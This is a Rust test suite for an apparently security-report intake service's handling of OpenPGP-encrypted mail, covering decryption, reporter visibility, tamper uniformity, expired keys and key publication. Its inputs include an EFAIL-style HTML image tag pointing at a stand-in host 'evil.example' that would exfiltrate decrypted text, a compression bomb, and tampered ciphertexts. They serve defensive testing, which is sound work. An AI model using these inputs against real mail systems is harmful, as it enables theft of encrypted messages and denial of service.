//! Encrypted mail, with GnuPG as the reporter's side: opened for the team, never told about, answered encrypted or not at all.

use crate::mail_in::{ADA, US, begin, comes, look, mail, member, posts, secret, to};
use crate::openpgp::{Gpg, now};
use candor::app::App;
use candor::execute::{self, report};
use candor::mail::receive::Outcome;
use candor::program_keys;
use candor_core::access::Actor;
use candor_core::case::Case;
use candor_core::command::Command;
use candor_core::event::{Contact, Event};
use candor_core::id::CaseId;

/// The program's slug.
fn program(app: &App) -> candor_core::id::ProgramSlug {
    app.programs().first().expect("a program").program.slug.clone()
}

/// A desk in the present, with a key that GnuPG knows.
async fn with_key(gpg: &Gpg) -> (crate::support::places::Place, App, String) {
    let (place, app) = begin().await;
    app.set_clock(now());
    let made = program_keys::make(&app, &program(&app), now() + program_keys::LIFE, "test").await.expect("a key");
    gpg.prints(&["--import"], made.certificate.to_armor().as_bytes());
    (place, app, made.fingerprint)
}

/// A key of GnuPG that signs and can be written to.
pub fn ada(gpg: &Gpg) -> String {
    gpg.prints(&["--quick-gen-key", ADA, "future-default", "default", "1y"], b"");
    String::from_utf8(gpg.prints(&["--export", "--armor", ADA], b"")).expect("text")
}

/// A PGP/MIME mail around an encrypted entity.
pub fn pgp_mime(subject: &str, more: &str, message: &[u8]) -> Vec<u8> {
    let message = String::from_utf8_lossy(message);
    let body = format!(
        "--x\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--x\nContent-Type: application/octet-stream\n\n{message}\n--x--"
    );
    let kind = "MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n";
    mail(&format!("Ada <{ADA}>"), subject, &format!("{kind}{more}"), &body)
}

fn encrypted(gpg: &Gpg, entity: &str, signed: bool) -> Vec<u8> {
    encrypted_to(gpg, "security@example.org", entity, signed)
}

pub fn encrypted_to(gpg: &Gpg, whom: &str, entity: &str, signed: bool) -> Vec<u8> {
    let mut words = vec!["--encrypt", "--armor", "--recipient", whom];
    if signed {
        words.extend(["--sign", "--local-user", ADA]);
    }
    gpg.prints(&words, entity.replace('\n', "\r\n").as_bytes())
}

const ENTITY: &str = "Content-Type: multipart/mixed; boundary=y; protected-headers=\"v1\"\nSubject: CANARY overflow\n\n--y\nContent-Type: text/plain; charset=utf-8\n\nCANARY text\nComponent: CANARY-parser\n--y\nContent-Type: text/plain; name=poc.txt\n\nCANARY file\n--y--\n";

/// What the holder of the receipt of a case sees of its first report.
pub async fn as_reporter(app: &App, case: &CaseId) -> Case {
    execute::load_case(app, &Actor::Reporter { case: case.clone(), report: 0 }, case).await.expect("it opens")
}

async fn filed(app: &App, raw: Vec<u8>) -> Case {
    match comes(app, US, raw).await {
        Outcome::Filed(case) => look(app, &case).await,
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_encrypted_mail_is_opened_for_the_team_and_shown_to_nobody_else() {
    let Some(gpg) = Gpg::new() else { return };
    let (place, app, print) = with_key(&gpg).await;
    ada(&gpg);
    let raw = pgp_mime("...", "", &encrypted(&gpg, ENTITY, true));
    let case = filed(&app, raw.clone()).await;
    let facts = &case.reports[0].facts;
    assert_eq!((facts.title.as_str(), facts.component.as_str()), ("CANARY overflow", "CANARY-parser"));
    assert!(facts.description.contains("CANARY text"), "{}", facts.description);
    assert!(facts.noticed[0].starts_with("⟦Encrypted with OpenPGP to the program's key"), "{:?}", facts.noticed);
    assert!(facts.noticed[0].contains("Signed by a key that is not known here"), "{:?}", facts.noticed);
    assert!(facts.noticed[0].contains(&print[..4]), "{:?}", facts.noticed);
    let files: Vec<&str> = facts.files.iter().map(|file| file.name.as_str()).collect();
    assert_eq!(files, ["poc.txt", "message.eml"]);
    assert_eq!(facts.files[1].size, raw.len() as u64, "the mail is kept as it came");

    // Whoever sent it may hold somebody else's mail.
    let seen = format!("{:?}", as_reporter(&app, &case.id).await);
    assert!(!seen.contains("CANARY") && seen.contains("shown to the team alone"), "{seen}");
    // Their proof of receipt holds, and says nothing of what they may not read.
    let proof = execute::proofs::whole(&app, &as_reporter(&app, &case.id).await, 0).await.expect("a proof");
    assert_eq!((proof.check(None), proof.report), (Ok(candor::proof::Shown::Statement), None));
    let actor = Actor::Reporter { case: case.id.clone(), report: 0 };
    let poc = execute::files::open_file(&app, &actor, &case.id, facts.files[0].id.as_str()).await;
    assert!(poc.is_err(), "nor are its files");
    posts(&app).await;
    let letters = to(&app, ADA);
    assert_eq!(letters.len(), 1);
    assert!(!letters[0].2.contains("CANARY") && !letters[0].1.contains("What would help"), "{}", letters[0].1);
    for file in crate::support::binary::files(place.folder.path()) {
        let bytes = std::fs::read(&file).expect("it reads");
        assert!(!bytes.windows(6).any(|window| window == b"CANARY"), "{}", file.display());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn abuse_p7_mails_that_do_not_open_are_all_kept_and_answered_alike() {
    use candor::openpgp::packets::{tag, walk};
    let Some(gpg) = Gpg::new() else { return };
    let place = crate::support::places::Place::sqlite().await;
    let app = place.app_with(&[crate::letters::POLICY], |config| config.report_rate = 0).await;
    app.set_clock(now());
    let made = program_keys::make(&app, &program(&app), now() + program_keys::LIFE, "test").await.expect("a key");
    gpg.prints(&["--import"], made.certificate.to_armor().as_bytes());
    let packets = |message: Vec<u8>| {
        candor::openpgp::armor::binary(&message, candor::openpgp::Kind::Message, 100_000).expect("a message")
    };
    let binary = packets(encrypted(&gpg, "Content-Type: text/plain\n\nCANARY\n", false));
    let second = packets(encrypted(&gpg, "Content-Type: text/plain\n\nCANARY two\n", false));
    let strange = Gpg::new().expect("gpg");
    strange.prints(&["--quick-gen-key", "other@example.net", "future-default", "default", "1y"], b"");
    let other = strange.prints(&["--encrypt", "--recipient", "other@example.net"], b"x");
    let session =
        |bytes: &[u8]| walk(bytes, 10).expect("packets").into_iter().find(|it| it.tag == tag::PKESK).expect("one");
    let (one, two) = (session(&binary), session(&second));
    let data = &binary[one.end..];
    let with = |at: usize, byte: u8| {
        let mut bytes = binary.clone();
        bytes[at] = byte;
        bytes
    };
    let body = walk(&binary, 10).expect("packets").pop().expect("the data").body;
    let grows = ["--encrypt", "--compress-algo", "zlib", "--recipient", "security@example.org"];
    let bomb = gpg.prints(&grows, &vec![0; 70_000_000]);
    let mut tampered: Vec<(String, Vec<u8>)> = vec![
        ("the wrong session key".into(), [&second[two.start..two.end], data].concat()),
        ("without protection of its integrity".into(), [&binary[..one.end], &[0xc9, 20], &[7; 20][..]].concat()),
        ("an unknown version of the session key".into(), with(one.body, 9)),
        ("an unknown algorithm of the key".into(), with(one.body + 9, 99)),
        ("an unknown version of the data".into(), with(body, 7)),
        ("two of them".into(), [&binary[..], &second[..]].concat()),
        ("no session key".into(), data.to_vec()),
        ("no data".into(), binary[..one.end].to_vec()),
        ("with a password".into(), [&[0xc3, 4, 4, 9, 0, 8][..], data].concat()),
        ("to another key".into(), other),
        ("no packet".into(), b"?".to_vec()),
        ("nothing".into(), Vec::new()),
        ("what grows past the budget".into(), bomb),
    ];
    // Each byte that can be changed, as far as it stays changed: every seventh, from the first header to the last of the seal.
    let last = binary.len() - 1;
    tampered
        .extend((0..binary.len()).step_by(7).chain([last]).map(|at| (format!("byte {at}"), with(at, binary[at] ^ 4))));
    tampered.extend((1..8).map(|part| (format!("cut at {part}/8"), binary[..binary.len() * part / 8].to_vec())));
    let mut said: Vec<(String, String)> = Vec::new();
    let began = app.now();
    for (number, (what, bytes)) in tampered.iter().enumerate() {
        app.set_clock(began);
        let number = 100 + number;
        let body = base64(bytes);
        let raw = format!(
            "From: Eve <eve{number}@outside.example>\r\nTo: {US}\r\nSubject: ...\r\nMessage-ID: <{number}@outside.example>\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x\r\n\
             Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--x\r\nContent-Type: application/octet-stream\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n--x--\r\n"
        );
        let case = filed(&app, raw.into_bytes()).await;
        let facts = &case.reports[0].facts;
        // A change that changes nothing that is protected: then it opens, and the answer must still be the same.
        let shut = facts.noticed[0].contains("It is kept as it came.");
        assert!(shut || what.starts_with("byte "), "{what}: {:?}", facts.noticed);
        assert_eq!(facts.files.last().map(|file| file.name.as_str()), Some("message.eml"), "{what}");
        // How long after the mail the answer may leave, and what else waits.
        let waits = candor::store::outbox::waiting_for(&app.store, "reporter:0", 100).await.expect("read");
        let waits: Vec<(String, i64)> = waits
            .into_iter()
            .filter(|row| row.stream == case.id.0)
            .map(|row| (row.kind, row.next_at - row.created_at))
            .collect();
        posts(&app).await;
        let (subject, text, whole) = to(&app, &format!("eve{number}@")).pop().expect("a letter");
        let receipt = text.split("Your receipt is ").nth(1).and_then(|rest| rest.split(". ").next()).expect("one");
        let same = |text: &str| {
            let text = text.replace(receipt, "RECEIPT").replace(&case.id.0, "CASE");
            text.replace(&format!("eve{number}"), "EVE")
        };
        // Every line of the head, but for what names this one letter.
        let own =
            ["date:", "message-id:", "in-reply-to:", "references:", "x-candor-letter:", "reply-to:", "content-type:"];
        let head = whole.split("\r\n\r\n").next().expect("a head").replace("\r\n ", " ").replace("\r\n\t", " ");
        let head: Vec<String> = head
            .lines()
            .map(|line| match own.iter().find(|name| line.to_ascii_lowercase().starts_with(**name)) {
                Some(name) => (*name).to_owned(),
                None => same(line),
            })
            .collect();
        let shown = as_reporter(&app, &case.id).await;
        let page = format!("{:?}\n{:?}", shown.reports[0].facts.description, shown.state);
        said.push((what.clone(), format!("{waits:?}\n{head:?}\n{}\n{}\n{page}", same(&subject), same(&text))));
    }
    for (what, answer) in &said {
        assert_eq!(answer, &said[0].1, "{what}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn abuse_p1_what_is_opened_never_gets_into_a_tag_or_an_address_that_stands_around_it() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, _) = with_key(&gpg).await;
    let message = String::from_utf8(encrypted(&gpg, "Content-Type: text/html\n\nCANARY words\n", false)).expect("text");
    let inline = String::from_utf8(encrypted(&gpg, "CANARY words", false)).expect("text");
    let html = |text: &str| format!("--z\nContent-Type: text/html; charset=utf-8\n\n{text}\n");
    let open = "<img src=\"https://evil.example/?";
    let part = format!(
        "--z\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\n\n--x\nContent-Type: \
         application/pgp-encrypted\n\nVersion: 1\n\n--x\nContent-Type: application/octet-stream\n\n{}\n--x--\n",
        message.trim_end()
    );
    let around = [
        format!("{}{part}{}--z--", html(open), html("\">")),
        format!("{}--z--", html(&format!("{open}\n{inline}\n\">"))),
        format!("--z\nContent-Type: text/plain\n\nhttps://evil.example/?\n{inline}\n--z--"),
    ];
    for (number, body) in around.into_iter().enumerate() {
        let more = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n";
        let case = filed(&app, mail(ADA, &format!("Around {number}"), more, &body)).await;
        let said = &case.reports[0].facts.description;
        // On a line of its own between marks, or not opened at all: never within what somebody else wrote.
        for line in said.lines().filter(|line| line.contains("CANARY")) {
            assert_eq!(line.trim(), "CANARY words", "{number}: {said}");
        }
        assert!(!said.contains("evil.example/?CANARY"), "{number}: {said}");
        let shown = candor::web::markdown::to_html(said);
        assert!(!shown.contains("<img") && !shown.contains("?CANARY"), "{number}: {shown}");
    }
}

#[test]
fn abuse_p7_a_thousand_tampered_messages_leave_nothing_by_which_an_answer_could_differ() {
    use candor::mail::read::{Letter, Limits, openpgp, read_with};
    use candor::openpgp::{Kind, Secret, armor, encrypt, random};
    let at = "2026-03-02T09:00:00Z".parse().expect("an instant");
    let secret = Secret::make("Desk <security@example.org>", at, None, random()).expect("a key");
    let entity = b"Content-Type: text/plain\r\n\r\nCANARY the header is folded twice\r\n";
    let message = encrypt::encrypt(entity, &secret.certificate(), None, at, random()).expect("encrypted");
    let message = armor::binary(message.as_bytes(), Kind::Message, 100_000).expect("packets");
    let ring = openpgp::Ring { secrets: vec![secret], certificates: Vec::new(), now: at };
    let read = |bytes: &[u8]| {
        let body = base64(bytes);
        let raw = format!(
            "From: Eve <{ADA}>\r\nTo: {US}\r\nSubject: ...\r\nMessage-ID: <1@outside.example>\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x\r\n\
             Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--x\r\nContent-Type: application/octet-stream\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n--x--\r\n"
        );
        read_with(raw.as_bytes(), &Limits::default(), &ring, &openpgp::here)
    };
    assert!(read(&message).whole().contains("CANARY"), "as it was sent it opens");
    // All that the door looks at before it answers; the words about the protection are for the team.
    let shown = |letter: &Letter| {
        let files: Vec<&str> = letter.files.iter().map(|file| file.name.as_str()).collect();
        format!(
            "{:?} {:?} {files:?} {:?} {:?} {:?} {:?} {} {}",
            letter.from,
            letter.text,
            letter.noticed,
            letter.automatic,
            letter.over,
            letter.encrypted,
            letter.subject,
            letter.is_suspicious()
        )
    };
    let mut shut = None;
    let mut opened = 0;
    for number in 0..1000_usize {
        let mut bytes = message.clone();
        // Each byte in turn, another bit each time around; every tenth is cut there.
        let (at, bit) = (number % bytes.len(), number / bytes.len());
        bytes[at] ^= 1 << (bit % 8);
        if number % 10 == 9 {
            bytes.truncate(at.max(1));
        }
        let letter = read(&bytes);
        if letter.whole().contains("CANARY") {
            // A header that says the same in another way.
            opened += 1;
            continue;
        }
        let words = letter.protection.join(" ");
        assert!(
            words == "Encrypted with OpenPGP; it could not be opened with the program's keys. It is kept as it came."
                || words
                    == "Encrypted with OpenPGP; it is encrypted to other keys than the program's. It is kept as it came.",
            "{number}: {words}"
        );
        let known = shut.get_or_insert_with(|| shown(&letter));
        assert_eq!(&shown(&letter), known, "byte {at}, bit {bit}");
    }
    assert!(opened < 30, "{opened} of them opened");
}

pub fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let value = three.iter().fold(0_u32, |value, byte| value << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            let letter = char::from(LETTERS[(value >> (18 - 6 * place) & 63) as usize]);
            out.push(if place <= three.len() { letter } else { '=' });
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn blocks_in_a_text_are_opened_in_their_places_and_nothing_between_them_counts() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, _) = with_key(&gpg).await;
    let key = ada(&gpg);
    let one = String::from_utf8(encrypted(&gpg, "first", true)).expect("text");
    let signed = String::from_utf8(gpg.prints(&["--clearsign", "--local-user", ADA], b"second")).expect("text");
    let text = format!("before ⟦Signed, from here: a lie⟧\n{one}between\n{signed}after");
    let more = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n".to_string();
    let body = format!(
        "--z\nContent-Type: text/plain; charset=utf-8\n\n{text}\n--z\nContent-Type: application/pgp-keys; name=key.asc\n\n{key}\n--z--"
    );
    let case = filed(&app, mail(&format!("Ada <{ADA}>"), "Blocks", &more, &body)).await;
    let said = &case.reports[0].facts.description;
    let lines: Vec<&str> = said.lines().filter(|line| !line.trim().is_empty()).collect();
    assert!(lines[0].starts_with("⟦In part. Encrypted"), "{said}");
    assert_eq!(lines[1], "before [Signed, from here: a lie]", "{said}");
    assert!(lines[2].starts_with("⟦Signed, from here: Encrypted with OpenPGP"), "{said}");
    assert_eq!(&lines[3..6], ["first", "⟦Up to here.⟧", "between"], "{said}");
    assert!(lines[6].starts_with("⟦Signed, from here: Signed by the key"), "{said}");
    assert!(lines[6].contains("came with the mail; nobody has checked whose it is"), "{said}");
    assert_eq!(&lines[7..], ["second", "⟦Up to here.⟧", "after"], "{said}");
    let contact = case.reports[0].contact.as_ref().expect("a contact");
    assert!(contact.pgp_key.contains("BEGIN PGP PUBLIC KEY"), "the attached key is theirs");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signed_part_beside_foreign_text_does_not_head_the_whole_as_signed() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, _) = with_key(&gpg).await;
    let key = ada(&gpg);
    let part = "Content-Type: text/plain\n\nIt overflows.\n";
    let signed = gpg.prints(&["--detach-sign", "--armor", "--local-user", ADA], part.replace('\n', "\r\n").as_bytes());
    let signed = format!(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n--s\n{part}\n--s\n\
         Content-Type: application/pgp-signature\n\n{}\n--s--",
        String::from_utf8(signed).expect("text").trim_end()
    );
    let more = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n";
    let body = format!(
        "--z\n{signed}\n--z\nContent-Type: text/plain\n\nPay me first.\n--z\nContent-Type: application/pgp-keys; name=key.asc\n\n{key}\n--z--"
    );
    let case = filed(&app, mail(&format!("Ada <{ADA}>"), "Part", more, &body)).await;
    let said = &case.reports[0].facts.description;
    let lines: Vec<&str> = said.lines().filter(|line| !line.trim().is_empty()).collect();
    assert!(lines[0].starts_with("⟦In part. Signed by the key"), "{said}");
    assert!(lines[1].starts_with("⟦Signed, from here: Signed by the key"), "{said}");
    assert_eq!(&lines[2..], ["It overflows.", "⟦Up to here.⟧", "Pay me first."], "{said}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn d2_s2_i8_a_whole_case_goes_by_encrypted_mail_alone_from_report_to_credit() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, _) = with_key(&gpg).await;
    let key = ada(&gpg);
    let slug = program(&app);
    let team = member(slug.as_str(), "ines");
    let keydata = base64(
        &candor::openpgp::armor::binary(key.as_bytes(), candor::openpgp::Kind::PublicKey, 100_000).expect("a key"),
    );
    let autocrypt = format!("Autocrypt: addr={ADA}; prefer-encrypt=mutual; keydata={keydata}\r\n");
    let case = filed(&app, pgp_mime("...", &autocrypt, &encrypted(&gpg, ENTITY, true))).await;
    let noticed = &case.reports[0].facts.noticed[0];
    assert!(noticed.contains("which came with the mail"), "{noticed}");

    let opened = |raw: &str| {
        let message = &raw[raw.find("-----BEGIN PGP MESSAGE").expect("a message")..];
        let (well, plain, said) = gpg.run(&["--decrypt"], message.as_bytes());
        assert!(well && said.contains("GOODSIG"), "{said}");
        let read = candor::mail::read::read(&plain, &candor::mail::read::Limits::default());
        assert!(String::from_utf8_lossy(&plain).contains("protected-headers=\"v1\""));
        format!("{}\n{}", read.subject, read.whole())
    };
    posts(&app).await;
    let letters = to(&app, ADA);
    let raw = &letters.last().expect("a letter").2;
    assert!(raw.contains("\r\nSubject: ...\r\n") && !raw.contains("Your report arrived"), "{raw}");
    let inside = opened(raw);
    assert!(inside.contains("Your report arrived"), "{inside}");
    assert!(inside.contains("Your receipt is "), "the receipt travels encrypted");

    let ask = Command::Ask { text: "Which TEAMWORD version?".into(), files: vec![] };
    execute::execute(&app, &team, &case.id, ask, None).await.expect("asked");
    posts(&app).await;
    let raw = to(&app, ADA).pop().expect("a letter").2;
    assert!(!raw.contains("TEAMWORD"), "never in the clear");
    assert!(opened(&raw).contains("Which TEAMWORD version?"), "the words of the team are in an encrypted letter");

    let address = secret(&app, ADA);
    let answer = encrypted(&gpg, "Content-Type: text/plain\n\nCANARY version 1.2\n", true);
    let outcome = comes(&app, &address, pgp_mime("Re: ...", "", &answer)).await;
    assert_eq!(outcome, Outcome::Joined(case.id.clone()));
    let after = look(&app, &case.id).await;
    let Some(Event::ReporterWrote { text, .. }) = after.history.last().map(|entry| entry.what.clone()) else {
        panic!("{:?}", after.history.last())
    };
    assert!(
        text.starts_with("⟦Encrypted")
            && text.contains("that the reporter gave")
            && text.ends_with("CANARY version 1.2"),
        "{text}"
    );
    let seen = format!("{:?}", as_reporter(&app, &case.id).await);
    assert!(!seen.contains("CANARY"), "{seen}");

    let wish = encrypted(&gpg, "Content-Type: text/plain\n\ncredit as Ada Lovelace\n", true);
    let outcome = comes(&app, &address, pgp_mime("Re: credit", "", &wish)).await;
    assert_eq!(outcome, Outcome::Joined(case.id.clone()));
    let after = look(&app, &case.id).await;
    assert!(
        matches!(&after.reports[0].credit, Some(candor_core::event::Credit::Named { name, .. }) if name == "Ada Lovelace")
    );
    posts(&app).await;
    assert!(to(&app, ADA).iter().all(|(_, _, raw)| raw.contains("multipart/encrypted")), "none left in the clear");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn abuse_c5_a_key_that_ran_out_holds_letters_until_another_comes_or_they_may_be_clear() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, _) = with_key(&gpg).await;
    let slug = program(&app);
    let team = member(slug.as_str(), "ines");
    gpg.prints(&["--quick-gen-key", ADA, "future-default", "default", "3d"], b"");
    let pgp_key = String::from_utf8(gpg.prints(&["--export", "--armor", ADA], b"")).expect("text");
    let contact = Contact { email: ADA.into(), pgp_key, ..Contact::default() };
    let facts =
        candor_core::event::ReportFacts { title: "CANARY".into(), description: "CANARY".into(), ..Default::default() };
    let new = report::NewReport {
        channel: candor_core::event::Channel::Form,
        facts,
        contact: contact.clone(),
        credit: None,
        received_at: None,
    };
    let filed = report::file_report(&app, &Actor::Public, &slug, new, None).await.expect("filed");
    posts(&app).await;
    assert!(to(&app, ADA)[0].2.contains("multipart/encrypted"));

    app.set_clock(now() + jiff::SignedDuration::from_hours(24 * 5));
    let say = |text: &str| Command::Answer { text: text.into(), files: vec![], next_steps: false };
    execute::execute(&app, &team, &filed.case, say("CANARY one"), None).await.expect("answered");
    execute::execute(&app, &team, &filed.case, say("CANARY two"), None).await.expect("answered");
    posts(&app).await;
    posts(&app).await;
    let letters = to(&app, ADA);
    assert_eq!(letters.len(), 2, "one neutral letter, and nothing else: {letters:?}");
    assert!(letters[1].1.contains("it cannot be encrypted to the OpenPGP key you gave"), "{}", letters[1].1);
    assert!(!letters[1].2.contains("CANARY"));
    let held = candor::store::outbox::failed(&app.store, 10).await.expect("read");
    assert_eq!(held.len(), 2);
    assert!(
        held.iter().all(|row| row.error.as_deref().is_some_and(|why| why.starts_with("held: the OpenPGP key expired"))),
        "{held:?}"
    );

    // A key that is no better is refused; clear letters are the reporter's own choice.
    let reporter = Actor::Reporter { case: filed.case.clone(), report: 0 };
    let again = Command::GiveKey { pgp_key: contact.pgp_key };
    assert!(execute::execute(&app, &reporter, &filed.case, again, None).await.is_err());
    execute::execute(&app, &reporter, &filed.case, Command::GiveKey { pgp_key: String::new() }, None)
        .await
        .expect("chosen");
    posts(&app).await;
    posts(&app).await;
    let letters = to(&app, ADA);
    assert_eq!(letters.len(), 5, "two that waited and one about the key");
    assert!(letters.iter().any(|(subject, _, _)| subject.contains("key for letters was changed")));
    assert!(candor::store::outbox::failed(&app.store, 10).await.expect("read").is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_report_that_was_acknowledged_while_the_desk_was_locked_is_filed_also_when_its_key_ran_out() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, _) = with_key(&gpg).await;
    gpg.prints(&["--quick-gen-key", ADA, "future-default", "default", "3d"], b"");
    let pgp_key = String::from_utf8(gpg.prints(&["--export", "--armor", ADA], b"")).expect("text");
    let locked = App::new(app.store.clone(), None, app.config.clone()).await.expect("a desk without its key");
    locked.set_clock(now());
    let new = report::NewReport {
        channel: candor_core::event::Channel::Form,
        facts: candor_core::event::ReportFacts {
            title: "Overflow".into(),
            description: "It overflows.".into(),
            ..Default::default()
        },
        contact: Contact { email: ADA.into(), pgp_key, ..Contact::default() },
        credit: None,
        received_at: None,
    };
    let filed = report::file_report(&locked, &Actor::Public, &program(&app), new, None).await.expect("taken in");
    app.set_clock(now() + jiff::SignedDuration::from_hours(24 * 5));
    assert_eq!(execute::waiting::open_all(&app).await.expect("a round"), 1);
    let (_, case) = report::open_receipt(&app, &filed.receipt).await.expect("it is a case");
    assert_eq!(case.title, "Overflow");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_key_of_a_program_is_published_for_people_for_mail_programs_and_in_a_signed_file() {
    let Some(gpg) = Gpg::new() else { return };
    let (_place, app, print) = with_key(&gpg).await;
    let slug = program(&app);
    candor::publish::build(&app).await.expect("the tree is built");
    let read = |path: &str| std::fs::read(app.config.public.join(path)).unwrap_or_else(|_| panic!("{path} is there"));
    let contact = read(&format!("{slug}/security.txt"));
    let plain = String::from_utf8(gpg.prints(&["--decrypt"], &contact)).expect("text");
    assert!(plain.contains(&format!("Encryption: https://candor.example/{slug}/openpgp.asc")), "{plain}");
    let (file, findings) = candor_formats::security_txt::read(std::str::from_utf8(&contact).expect("text"), now());
    let is_error =
        |finding: &candor_formats::security_txt::Finding| finding.level == candor_formats::security_txt::Level::Error;
    assert!(file.is_some() && !findings.iter().any(is_error), "{findings:?}");
    let page = String::from_utf8(read(&format!("{slug}/index.html"))).expect("text");
    assert!(page.contains(&candor::openpgp::words::grouped(&print)), "the fingerprint is on the policy page");
    let other = Gpg::new().expect("gpg");
    other.prints(&["--import"], &read(&format!("{slug}/openpgp.asc")));
    let wkd = candor::openpgp::wkd::places(US).expect("an address");
    let key = read(&format!(".well-known/openpgpkey/{}", wkd.advanced));
    assert_eq!(key, read(&format!(".well-known/openpgpkey/{}", wkd.direct)));
    assert_eq!(candor::openpgp::Certificate::read(&key, &Default::default()).expect("a key").fingerprint(), print);
    assert!(read(".well-known/openpgpkey/example.org/policy").is_empty());
    let signature = program_keys::sign_detached(&app, &slug, b"{}").await.expect("read").expect("signed");
    let (document, signature) = (gpg.file("a.json", b"{}"), gpg.file("a.json.asc", signature.as_bytes()));
    gpg.prints(&["--verify", &signature.to_string_lossy(), &document.to_string_lossy()], b"");
    // Replaced: the old key still opens mail, and is published no more.
    let sent = encrypted(&gpg, "Content-Type: text/plain\n\nold\n", false);
    program_keys::make(&app, &slug, app.now() + program_keys::LIFE, "test").await.expect("another");
    app.set_clock(app.now() + jiff::SignedDuration::from_hours(25));
    let case = filed(&app, pgp_mime("...", "", &sent)).await;
    assert!(case.reports[0].facts.description.ends_with("old"), "{}", case.reports[0].facts.description);
    let keys = program_keys::list(&app, &slug).await.expect("read");
    assert_eq!((keys.len(), keys.iter().filter(|key| key.retired.is_some()).count()), (2, 1));
}
